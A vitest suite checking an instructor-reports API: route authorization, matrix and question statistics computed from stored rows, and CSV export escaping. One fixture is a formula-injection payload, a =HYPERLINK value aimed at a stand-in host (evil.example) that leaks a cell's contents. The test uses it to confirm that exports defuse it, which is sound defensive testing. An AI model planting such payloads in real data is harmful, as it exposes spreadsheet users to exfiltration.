import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cookieFrom, ctx, type Handler, request, useTestDatabase } from "../../helpers/route-requests";
import type { TestDatabase } from "../../helpers/databases";

/** The name a hostile learner picks: a formula, a comma, quotes and a line break. */
const hostileName = '=HYPERLINK("http://evil.example/?x="&A1, "click")\nsecond line';

/**
 * The instructor reports against one real database: authorization of every
 * route, and every number compared with a computation of its own from the rows.
 */
export function reportsSuite(name: string, start: () => Promise<TestDatabase | { skip: string }>) {
  let database: TestDatabase | undefined;
  let skipReason: string | undefined;
  let db: typeof import("@/lib/db/client.server").db;
  let routes: {
    auth: { POST: (r: Request) => Promise<Response> };
    attempts: { POST: Handler };
    join: { POST: (r: Request) => Promise<Response> };
    classes: { POST: (r: Request) => Promise<Response> };
    instructorClasses: { GET: (r: Request) => Promise<Response> };
    matrix: { GET: Handler };
    questions: { GET: Handler };
    devices: { GET: Handler };
    learner: { GET: Handler };
    exports: { GET: Handler };
  };
  let classId = "";
  let ownerCookie = "";
  let otherCookie = "";
  let learnerCookie = "";
  let learnerId = "";
  let otherClassId = "";

  const signIn = async (email: string, password: string) => {
    const response = await routes.auth.POST(request("/api/auth/sign-in/email", { body: { email, password } }));
    expect(response.status, await response.clone().text()).toBe(200);
    return cookieFrom(response);
  };

  beforeAll(async () => {
    const started = await start();
    if ("skip" in started) {
      skipReason = started.skip;
      return;
    }
    database = started;
    useTestDatabase(database);
    routes = {
      auth: await import("@/app/api/auth/[...all]/route"),
      attempts: await import("@/app/api/quizzes/[quizId]/attempts/route"),
      join: await import("@/app/api/classes/join/route"),
      classes: await import("@/app/api/classes/route"),
      instructorClasses: await import("@/app/api/instructor/classes/route"),
      matrix: await import("@/app/api/instructor/classes/[classId]/matrix/route"),
      questions: await import("@/app/api/instructor/classes/[classId]/questions/route"),
      devices: await import("@/app/api/instructor/classes/[classId]/devices/route"),
      learner: await import("@/app/api/instructor/classes/[classId]/learners/[userId]/route"),
      exports: await import("@/app/api/instructor/classes/[classId]/exports/[kind]/route"),
    } as unknown as typeof routes;
    db = (await import("@/lib/db/client.server")).db;
    const { seedDemo } = await import("@/lib/instructor/demo-seed.server");
    const { createInstructor } = await import("@/lib/auth/instructors.server");

    const seeded = await seedDemo({ learners: 40, seed: 7, instructorPassword: "owner password 1" });
    classId = seeded.classId;
    ownerCookie = await signIn(seeded.instructor.email, "owner password 1");

    await createInstructor({ email: `other-${name}@example.com`, password: "other password 1" });
    otherCookie = await signIn(`other-${name}@example.com`, "other password 1");
    const created = await routes.classes.POST(request("/api/classes", { body: { name: "Someone else's class" }, cookie: otherCookie }));
    otherClassId = ((await created.json()) as { id: string }).id;

    // A real learner through the real API: signs up with a hostile name, joins, submits, stores a result.
    // Sign-up refuses control characters in names now; the line break is written straight to the row, as
    // an account made before that rule would hold it, so the exports must still defuse it.
    const signUp = await routes.auth.POST(request("/api/auth/sign-up/email", { body: { email: `hostile-${name}@example.com`, password: "learner password", name: hostileName.replace("\n", " ") } }));
    expect(signUp.status, await signUp.clone().text()).toBe(200);
    learnerId = (await db.user.findUniqueOrThrow({ where: { email: `hostile-${name}@example.com` } })).id;
    await db.user.update({ where: { id: learnerId }, data: { name: hostileName } });
    learnerCookie = await signIn(`hostile-${name}@example.com`, "learner password");
    const joinCode = (await db.class.findUniqueOrThrow({ where: { id: classId } })).joinCode;
    expect((await routes.join.POST(request("/api/classes/join", { body: { code: joinCode }, cookie: learnerCookie }))).status).toBe(200);
    const submitted = await routes.attempts.POST(
      request("/api/quizzes/cpu-or-gpu/attempts", { body: { seed: 3, answers: { "memory-bound": "bandwidth", "three-numbers": ["latency", "training"], "weights-mb": -67.1 } }, cookie: learnerCookie }),
      ctx({ quizId: "cpu-or-gpu" }),
    );
    expect(submitted.status).toBe(201);
    await db.experimentResult.create({
      data: {
        id: `hostile-result-${name}`, userId: learnerId, lessonSlug: "cpu-or-gpu", experiment: "latency", modelId: "mlp-wide", lane: "browser-webgpu",
        device: "+google swiftshader", software: true, batchSize: 1, p50Ms: 14.2, throughput: 70.4, environment: "{}", results: "{}",
      },
    });
  }, 180_000);

  afterAll(async () => {
    await db?.$disconnect();
    await database?.stop();
  });

  const get = (handler: Handler, path: string, params: Record<string, string>, cookie?: string) => handler(request(path, { cookie }), ctx(params));

  describe(`instructor reports on ${name}`, () => {
    it("lets only the class's instructor in: 401 anonymous, 403 learner, 404 another instructor, on every route and export", async (context) => {
      if (skipReason) context.skip(skipReason);
      const base = `/api/instructor/classes/${classId}`;
      const cases: Array<[string, Handler, Record<string, string>]> = [
        [`${base}/matrix`, routes.matrix.GET, { classId }],
        [`${base}/questions`, routes.questions.GET, { classId }],
        [`${base}/devices`, routes.devices.GET, { classId }],
        [`${base}/learners/${learnerId}`, routes.learner.GET, { classId, userId: learnerId }],
        [`${base}/exports/grades`, routes.exports.GET, { classId, kind: "grades" }],
        [`${base}/exports/attempts`, routes.exports.GET, { classId, kind: "attempts" }],
        [`${base}/exports/experiments`, routes.exports.GET, { classId, kind: "experiments" }],
      ];
      for (const [path, handler, params] of cases) {
        const anonymous = await get(handler, path, params);
        expect(anonymous.status, path).toBe(401);
        expect(await anonymous.json()).toEqual({ error: "sign in first" });
        const learner = await get(handler, path, params, learnerCookie);
        expect(learner.status, path).toBe(403);
        expect(await learner.json()).toEqual({ error: "instructors only" });
        const other = await get(handler, path, params, otherCookie);
        expect(other.status, path).toBe(404);
        expect((await other.json()).error).toMatch(/no class/);
        const owner = await get(handler, path, params, ownerCookie);
        expect(owner.status, path).toBe(200);
      }
      // The other instructor's own class is theirs alone, too.
      expect((await get(routes.matrix.GET, `/api/instructor/classes/${otherClassId}/matrix`, { classId: otherClassId }, ownerCookie)).status).toBe(404);
      expect((await get(routes.matrix.GET, `/api/instructor/classes/${otherClassId}/matrix`, { classId: otherClassId }, otherCookie)).status).toBe(200);
      // Class lists: instructors only, and only their own classes.
      expect((await routes.instructorClasses.GET(request("/api/instructor/classes"))).status).toBe(401);
      expect((await routes.instructorClasses.GET(request("/api/instructor/classes", { cookie: learnerCookie }))).status).toBe(403);
      const listed = (await (await routes.instructorClasses.GET(request("/api/instructor/classes", { cookie: otherCookie }))).json()) as { classes: { id: string }[] };
      expect(listed.classes.map((c) => c.id)).toEqual([otherClassId]);
      // A learner of another class, or an unknown export, is a 404 for the owner.
      const outsider = (await db.user.findUniqueOrThrow({ where: { email: `other-${name}@example.com` } })).id;
      expect((await get(routes.learner.GET, `${base}/learners/${outsider}`, { classId, userId: outsider }, ownerCookie)).status).toBe(404);
      expect((await get(routes.exports.GET, `${base}/exports/passwords`, { classId, kind: "passwords" }, ownerCookie)).status).toBe(404);
      expect((await get(routes.questions.GET, `${base}/questions?scope=everything`, { classId }, ownerCookie)).status).toBe(400);
    });

    it("shows a matrix equal to a direct computation from the stored rows", async (context) => {
      if (skipReason) context.skip(skipReason);
      const response = await get(routes.matrix.GET, `/api/instructor/classes/${classId}/matrix`, { classId }, ownerCookie);
      const matrix = (await response.json()) as import("@/lib/instructor/matrix").ClassMatrix;
      const members = await db.classMember.findMany({ where: { classId } });
      expect(matrix.rows).toHaveLength(members.length);
      expect(members.length).toBe(41);
      const ids = members.map((m) => m.userId);
      const [attempts, progress, results] = await Promise.all([
        db.quizAttempt.findMany({ where: { userId: { in: ids } } }),
        db.lessonProgress.findMany({ where: { userId: { in: ids } } }),
        db.experimentResult.findMany({ where: { userId: { in: ids } } }),
      ]);
      expect(attempts.length).toBeGreaterThan(40);
      let checkedScores = 0;
      for (const row of matrix.rows) {
        for (const lesson of matrix.lessons) {
          const mine = attempts.filter((a) => a.userId === row.userId && a.lessonSlug === lesson.slug);
          const p = progress.find((x) => x.userId === row.userId && x.lessonSlug === lesson.slug);
          const r = results.filter((x) => x.userId === row.userId && x.lessonSlug === lesson.slug);
          const cell = row.cells[lesson.slug]!;
          const best = mine.length === 0 ? null : Math.max(...mine.map((a) => a.score / a.maxScore));
          expect(cell.attempts).toBe(mine.length);
          if (best === null) expect(cell.bestScore).toBeNull();
          else {
            expect(cell.bestScore).toBeCloseTo(best, 12);
            checkedScores++;
          }
          expect(cell.read).toBe(Boolean(p?.readAt));
          expect(cell.experimentsRun).toBe(p?.experimentsRun ?? 0);
          expect(cell.resultsStored).toBe(r.length);
          const times = [p?.readAt, ...(p && p.experimentsRun > 0 ? [p.updatedAt] : []), ...mine.map((a) => a.submittedAt), ...r.map((x) => x.createdAt)]
            .filter((t): t is Date => Boolean(t))
            .map((t) => t.getTime());
          expect(cell.lastActivity === null ? null : Date.parse(cell.lastActivity)).toBe(times.length ? Math.max(...times) : null);
        }
        const quizLessons = matrix.lessons.filter((l) => l.quizId);
        const average = quizLessons.reduce((sum, l) => sum + (row.cells[l.slug]!.bestScore ?? 0), 0) / quizLessons.length;
        expect(row.average).toBeCloseTo(average, 12);
      }
      expect(checkedScores).toBeGreaterThan(40);
      const hostile = matrix.rows.find((r) => r.userId === learnerId)!;
      expect(hostile.name).toBe(hostileName);
      expect(hostile.cells["cpu-or-gpu"]!.bestScore).toBeCloseTo((1 + 0 + 0) / 9, 12);
    });

    it("computes per-question statistics equal to counting the stored answers directly", async (context) => {
      if (skipReason) context.skip(skipReason);
      const { allQuizzes } = await import("@/lib/quiz/loader.server");
      const ids = (await db.classMember.findMany({ where: { classId } })).map((m) => m.userId);
      const rows = await db.quizAttempt.findMany({ where: { userId: { in: ids } } });
      for (const scope of ["all", "first", "latest"] as const) {
        const body = (await (await get(routes.questions.GET, `/api/instructor/classes/${classId}/questions?scope=${scope}`, { classId }, ownerCookie)).json()) as {
          quizzes: import("@/lib/instructor/questions").QuizStats[];
        };
        expect(body.quizzes.length).toBe(allQuizzes().size);
        for (const stats of body.quizzes) {
          const quiz = allQuizzes().get(stats.quizId)!.quiz;
          let counted = rows.filter((r) => r.quizId === stats.quizId);
          if (scope !== "all") {
            const chosen = new Map<string, number>();
            for (const r of counted) {
              const cur = chosen.get(r.userId);
              if (cur === undefined || (scope === "first" ? r.attemptNumber < cur : r.attemptNumber > cur)) chosen.set(r.userId, r.attemptNumber);
            }
            counted = counted.filter((r) => chosen.get(r.userId) === r.attemptNumber);
          }
          expect(stats.attempts).toBe(counted.length);
          for (const question of quiz.questions) {
            const stat = stats.questions.find((q) => q.questionId === question.id)!;
            let correct = 0;
            const picks: Record<string, number> = {};
            for (const r of counted) {
              const result = (JSON.parse(r.results) as { questionId: string; correct: boolean }[]).find((x) => x.questionId === question.id);
              if (result?.correct) correct++;
              const answer = (JSON.parse(r.answers) as Record<string, unknown>)[question.id];
              for (const id of Array.isArray(answer) ? answer : typeof answer === "string" ? [answer] : []) picks[id as string] = (picks[id as string] ?? 0) + 1;
            }
            expect(stat.correct, `${scope} ${question.id}`).toBe(correct);
            expect(stat.percentCorrect).toBeCloseTo(correct / counted.length, 12);
            if (question.type !== "numeric") {
              for (const choice of question.choices) expect(stat.choices!.find((c) => c.id === choice.id)!.count, `${question.id}/${choice.id}`).toBe(picks[choice.id] ?? 0);
            }
          }
          const sorted = [...stats.questions].sort((a, b) => a.percentCorrect! - b.percentCorrect!);
          expect(stats.questions.find((q) => q.questionId === stats.mostMissed[0])!.percentCorrect).toBe(sorted[0]!.percentCorrect);
        }
      }
    });

    it("exports CSVs that parse back with the numbers and the escaping intact", async (context) => {
      if (skipReason) context.skip(skipReason);
      const download = async (kind: string) => {
        const response = await get(routes.exports.GET, `/api/instructor/classes/${classId}/exports/${kind}`, { classId, kind }, ownerCookie);
        expect(response.status).toBe(200);
        expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
        expect(response.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename=".*${kind}.*\\.csv"; filename\\*=UTF-8''`));
        const text = await response.text();
        expect(text.endsWith("\r\n")).toBe(true);
        return { text, records: parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[] };
      };
      const ids = (await db.classMember.findMany({ where: { classId } })).map((m) => m.userId);

      const grades = await download("grades");
      expect(grades.records).toHaveLength(ids.length);
      const hostileRow = grades.records.find((r) => r.email === `hostile-${name}@example.com`)!;
      // The formula is neutralised with a leading quote, and the comma, quotes and line break survive quoting.
      expect(hostileRow.name).toBe(`'${hostileName}`);
      expect(hostileRow["cpu-or-gpu best %"]).toBe("11.1");
      expect(grades.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click"")\nsecond line"`);
      const attempts = await db.quizAttempt.findMany({ where: { userId: { in: ids } }, include: { user: true } });
      for (const record of grades.records) {
        const mine = attempts.filter((a) => a.user.email === record.email && a.quizId === "latency-is-a-distribution");
        expect(record["latency-is-a-distribution attempts"]).toBe(String(mine.length));
        const best = mine.length ? Math.round(Math.max(...mine.map((a) => a.score / a.maxScore)) * 1000) / 10 : null;
        expect(record["latency-is-a-distribution best %"]).toBe(best === null ? "" : String(best));
      }

      const all = await download("attempts");
      const expectedRows = attempts.reduce((n, a) => n + (JSON.parse(a.results) as unknown[]).length, 0);
      expect(all.records).toHaveLength(expectedRows);
      const hostileAnswers = all.records.filter((r) => r.email === `hostile-${name}@example.com`);
      expect(hostileAnswers.map((r) => r.question)).toEqual(["memory-bound", "three-numbers", "intensity-batch-64", "weights-mb", "own-batch1-bandwidth", "own-batch64-gflops", "read-roofline-point", "read-small-model", "read-not-sequential"]);
      const weights = hostileAnswers.find((r) => r.question === "weights-mb")!;
      // A numeric answer stays a number (so a sheet can sum it); the described answer is text and gets the quote.
      expect(weights["answer ids"]).toBe("-67.1");
      expect(weights.answer).toBe("'-67.1 MB");
      expect(hostileAnswers.find((r) => r.question === "three-numbers")!.answer).toBe("The latency target each request must meet; Whether the model was trained on a GPU");
      for (const record of all.records) expect(record.name).not.toMatch(/^[=+\-@\t\r]/);

      const experiments = await download("experiments");
      expect(experiments.records).toHaveLength(await db.experimentResult.count({ where: { userId: { in: ids } } }));
      const swift = experiments.records.find((r) => r["result id"] === `hostile-result-${name}`)!;
      expect(swift.device).toBe("'+google swiftshader");
      expect(swift.hardware).toBe("software GPU");
      expect(swift["software GPU"]).toBe("yes");
      expect(swift["p50 ms"]).toBe("14.2");
    });

    it("shows a learner's every attempt and answer, and labels software GPUs in the device results", async (context) => {
      if (skipReason) context.skip(skipReason);
      const detail = (await (await get(routes.learner.GET, "/", { classId, userId: learnerId }, ownerCookie)).json()) as import("@/lib/instructor/reports.server").LearnerDetail;
      expect(detail.attempts).toHaveLength(1);
      expect(detail.attempts[0]!.questions.find((q) => q.questionId === "memory-bound")).toMatchObject({ answer: "Reading the 67 MB of weights from memory", correct: true, score: 1 });
      expect(detail.attempts[0]!.questions.find((q) => q.questionId === "read-not-sequential")).toMatchObject({ answer: "no answer", correct: false });
      const devices = (await (await get(routes.devices.GET, "/", { classId }, ownerCookie)).json()) as import("@/lib/instructor/reports.server").ClassDevices;
      const ids = (await db.classMember.findMany({ where: { classId } })).map((m) => m.userId);
      expect(devices.results).toHaveLength(await db.experimentResult.count({ where: { userId: { in: ids } } }));
      const software = devices.groups.filter((g) => g.device.includes("swiftshader"));
      expect(software.length).toBeGreaterThan(0);
      for (const g of software) expect(g.kind).toBe("software GPU");
      expect(devices.groups.reduce((n, g) => n + g.results, 0)).toBe(devices.results.length + devices.server.length);
    });

    it("puts finished server benchmarks of the class's models beside its results, software GPU labelled", async (context) => {
      if (skipReason) context.skip(skipReason);
      const run = (id: string, lane: string, software: boolean, state: string, modelId = "mlp-wide") =>
        db.benchmarkRun.create({
          data: {
            id: `${id}-${name}`, state, modelId, lane, device: software ? "SwiftShader" : "AMD EPYC", software, threads: 2, scenario: "single-stream",
            request: "{}", modelDetails: "{}", results: JSON.stringify({ scenario: { kind: "single-stream", batch: 1, latencyMs: { p50: software ? 14.1 : 1.7 }, itemsPerSecond: software ? 70 : 580 } }),
          },
        });
      await run("cpu", "cpu", false, "done");
      await run("swift", "webgpu", true, "done");
      await run("failed", "cpu", false, "failed");
      await run("unused-model", "cpu", false, "done", "ocr-det");
      const devices = (await (await get(routes.devices.GET, "/", { classId }, ownerCookie)).json()) as import("@/lib/instructor/reports.server").ClassDevices;
      const ours = devices.server.filter((r) => r.id.endsWith(`-${name}`));
      expect(ours.map((r) => r.id).sort()).toEqual([`cpu-${name}`, `swift-${name}`]);
      const swift = devices.groups.find((g) => g.source === "server" && g.lane === "server-webgpu")!;
      expect(swift).toMatchObject({ kind: "software GPU", p50Ms: 14.1, throughput: 70, device: "SwiftShader" });
      expect(devices.groups.find((g) => g.source === "server" && g.lane === "server-cpu")).toMatchObject({ kind: "CPU", p50Ms: 1.7 });
    });
  });
}
